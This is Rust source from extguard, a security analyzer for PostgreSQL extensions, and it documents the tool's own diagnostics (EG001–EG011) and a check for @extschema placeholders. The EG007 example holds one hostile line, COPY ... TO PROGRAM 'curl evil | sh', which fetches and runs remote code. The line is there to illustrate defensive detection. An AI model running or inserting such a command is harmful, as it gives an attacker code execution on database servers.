//! The analyzer's own diagnostics about its input (not security rules).

declare_rule! {
    /// ## What it flags
    /// A statement (or a PL/pgSQL body) that PostgreSQL's parser rejects.
    ///
    /// ## Why it matters
    /// Nothing inside it can be checked. The rest of the file still is:
    /// extguard reports the error with its position and goes on with the next
    /// statement.
    ///
    /// ## Example
    /// ```sql
    /// CREATE FUNCTON f() RETURNS int AS 'SELECT 1' LANGUAGE sql;
    /// ```
    ///
    /// ## Fix
    /// Correct the syntax.
    pub static EG001 = { code: "EG001", name: "syntax-error", title: "Syntax error", severity: Error };
}

declare_rule! {
    /// ## What it flags
    /// A file that is not valid UTF-8.
    ///
    /// ## Why it matters
    /// Invalid bytes are replaced before analysis, so names containing them
    /// may not match what the server sees.
    ///
    /// ## Example
    /// A script saved as Latin-1 with `SELECT 'café';`.
    ///
    /// ## Fix
    /// Save the file as UTF-8 (extension scripts may declare `encoding` in their control file).
    pub static EG002 = { code: "EG002", name: "invalid-utf8", title: "Invalid UTF-8", severity: Warning };
}

declare_rule! {
    /// ## What it flags
    /// An internal error of extguard while analysing a file.
    ///
    /// ## Why it matters
    /// The file was not fully analysed. The run goes on with other files and
    /// ends with exit status 2.
    ///
    /// ## Example
    /// Any input that triggers a bug in extguard.
    ///
    /// ## Fix
    /// Report the input to the extguard maintainers.
    pub static EG003 = { code: "EG003", name: "internal-error", title: "Internal error", severity: Error };
}

declare_rule! {
    /// ## What it flags
    /// A function or DO block in a language extguard does not analyse (not
    /// `sql`, `plpgsql`, `c` or `internal`).
    ///
    /// ## Why it matters
    /// Its body is not checked at all; an untrusted language can also run
    /// arbitrary code on the server.
    ///
    /// ## Example
    /// ```sql
    /// CREATE FUNCTION s.f() RETURNS int LANGUAGE plperlu AS 'return 1';
    /// ```
    ///
    /// ## Fix
    /// Review the body by hand, then pass `--ignore-lang LANG`.
    pub static EG004 = { code: "EG004", name: "unknown-language", title: "Unknown function language", severity: Warning };
}

declare_rule! {
    /// ## What it flags
    /// A `.control` file PostgreSQL would reject (bad syntax, a non-Boolean
    /// `relocatable`/`trusted`/`superuser`), one without `default_version`,
    /// or one whose default version no install script or update path reaches.
    ///
    /// ## Why it matters
    /// CREATE EXTENSION fails, and extguard cannot tell which scripts it would run.
    ///
    /// ## Example
    /// ```text
    /// default_version = '1.0'
    /// relocatable = maybe
    /// ```
    ///
    /// ## Fix
    /// Correct the control file; make sure `ext--VERSION.sql` exists.
    pub static EG005 = { code: "EG005", name: "invalid-control-file", title: "Invalid control file", severity: Error };
}

declare_rule! {
    /// ## What it flags
    /// A statement or body extguard did not analyse, though PostgreSQL may
    /// accept it; the span shows where analysis stopped:
    /// - a PL/pgSQL body whose parsing needs the database's catalog (a
    ///   cursor passed in an unnamed `refcursor` parameter, `CLOSE $1`);
    ///   fields of composite and `%ROWTYPE` variables and parameters, and
    ///   cursors in named parameters, are handled;
    /// - a PL/pgSQL body nested more deeply than its parse tree reader
    ///   accepts (about 60 levels of IF/LOOP/BEGIN);
    /// - a statement whose parse tree is nested more than 2,000 levels
    ///   (an expression of about 1,000 nested operators or calls);
    /// - bodies nested inside bodies more than 32 deep.
    ///
    /// ## Why it matters
    /// Nothing inside it is checked. The rest of the file is.
    ///
    /// ## Example
    /// A DO block with 200 nested `IF ... THEN` statements.
    ///
    /// ## Fix
    /// Review that code by hand (or flatten it).
    pub static EG006 = { code: "EG006", name: "analysis-incomplete", title: "Analysis incomplete", severity: Info };
}

declare_rule! {
    /// ## What it flags
    /// An `-- extguard: ignore CODE` comment in input that is not yours:
    /// packages read by `extguard scan`, and files checked with
    /// `extguard check --untrusted` or `--no-inline-ignores`. Such comments
    /// are not obeyed there; the findings they would hide are reported as
    /// usual, and this finding names them.
    ///
    /// ## Why it matters
    /// A hostile package could otherwise hide its own `COPY ... TO PROGRAM`
    /// from the review with one comment.
    ///
    /// ## Example
    /// ```sql
    /// -- extguard: ignore EG101
    /// COPY (SELECT 1) TO PROGRAM 'curl evil | sh';
    /// ```
    ///
    /// ## Fix
    /// Review what the comment tried to hide. In your own code, run
    /// `extguard check` without `--untrusted` to have such comments obeyed.
    pub static EG007 = { code: "EG007", name: "untrusted-suppression", title: "Suppression comment in untrusted input", severity: Warning };
}

declare_rule! {
    /// ## What it flags
    /// An extension in a source checkout (a Makefile, meson.build, ... next
    /// to its control file) whose install script for `default_version` does
    /// not exist yet: the build makes it. When it copies `sql/NAME.sql`
    /// (pgvector's Makefile), that file is analysed as the install script;
    /// when it concatenates pieces, each script present is analysed on its
    /// own.
    ///
    /// ## Why it matters
    /// In the second case extguard cannot follow the CREATE EXTENSION chain:
    /// names CREATE EXTENSION would resolve safely may be reported.
    ///
    /// ## Example
    /// `default_version = '5.0'`, `sql/functions/*.sql` and a Makefile rule
    /// that builds `sql/ext--5.0.sql` from them.
    ///
    /// ## Fix
    /// None needed; to analyse the real chain, run extguard on the built
    /// tree (`make` first) or on the installed extension directory.
    pub static EG008 = { code: "EG008", name: "install-script-made-by-build", title: "Install script made by the build", severity: Info };
}

declare_rule! {
    /// ## What it flags
    /// Syntax that the PostgreSQL version analysed for (`--pg-version`, or
    /// `pg-version` in `extguard.toml`) does not have: the placeholder
    /// `@extschema:NAME@` of a required extension's schema, substituted in
    /// extension scripts by PostgreSQL 16 and later only.
    ///
    /// ## Why it matters
    /// On the older server the placeholder stays in the script as text, so
    /// the statement fails (or, in a string, names a schema literally called
    /// `@extschema:NAME@`) and the extension does not install as reviewed.
    ///
    /// ## Example
    /// ```sql
    /// -- with --pg-version 15
    /// SELECT @extschema:cube@.cube(1);
    /// ```
    ///
    /// ## Fix
    /// Require PostgreSQL 16 for the extension, or look the schema up at
    /// install time.
    pub static EG009 = { code: "EG009", name: "newer-postgres-syntax", title: "Syntax of a newer PostgreSQL version", severity: Error };
}

declare_rule! {
    /// ## What it flags
    /// A file of a PGXN binary package (`.trunk`) whose SHA-256 differs from
    /// the one its `digests` file lists, a file the package holds that
    /// `digests` does not list, and a listed file the package lacks.
    ///
    /// ## Why it matters
    /// The package was altered after it was built (or built carelessly): what
    /// was reviewed or signed is not what would be installed.
    ///
    /// ## Example
    /// `digests` lists `pgsql/share/extension/pair--1.0.sql` with one hash and
    /// the file in the package has another.
    ///
    /// ## Fix
    /// Rebuild the package, or find out who changed the file.
    pub static EG010 = { code: "EG010", name: "package-digest-mismatch", title: "File does not match the package's digests", severity: Error };
}

declare_rule! {
    /// ## What it flags
    /// Reported by `extguard diff OLD NEW` only: what the new version of an
    /// extension changes for security. A warning for a SECURITY DEFINER
    /// function, C or internal function, library, GRANT/REVOKE or event
    /// trigger that is new or whose definition changed, and for a control
    /// file whose `trusted`, `superuser` or `schema` changed (info when
    /// `trusted` or `superuser` became false); info for what the new version
    /// removed and for a finding of the old version it no longer has.
    /// Findings the new version adds keep their own codes.
    ///
    /// ## Why it matters
    /// An upgrade is reviewed as a difference: these are the changes a
    /// reviewer must read, whatever the rest of the diff.
    ///
    /// ## Example
    /// Version 1.1 adds `CREATE FUNCTION f() ... SECURITY DEFINER` and
    /// sets `trusted = true`.
    ///
    /// ## Fix
    /// Review each change; none is wrong in itself.
    pub static EG011 = { code: "EG011", name: "security-change", title: "Security-relevant change between versions", severity: Warning };
}

/// EG009 for a whole file: every `@extschema:NAME@` placeholder when the
/// version analysed for is older than 16.
pub fn check_version_syntax(cx: &mut crate::analysis::Cx) {
    if cx.cfg.pg_version() >= 16 {
        return;
    }
    let file = cx.file;
    let mut spans = Vec::new();
    for at in memchr::memmem::find_iter(file.text.as_bytes(), b"@extschema:") {
        // Recognised as a placeholder: source.rs turned it into a quoted
        // identifier of the same width, ending in `"`.
        let rest = file.prepared(at, file.text.len());
        if !rest.starts_with("\"extschema:") {
            continue;
        }
        let Some(len) = rest[1..].find('"') else {
            continue;
        };
        spans.push(crate::span::Span::new(at, at + len + 2));
    }
    for span in spans {
        let name = file.text[span.start..span.end].to_string();
        cx.report(
            &EG009,
            EG009.severity,
            span,
            format!(
                "{name} is substituted only by PostgreSQL 16 and later (analysed for {})",
                cx.cfg.pg_version()
            ),
            Some(name),
        );
    }
}
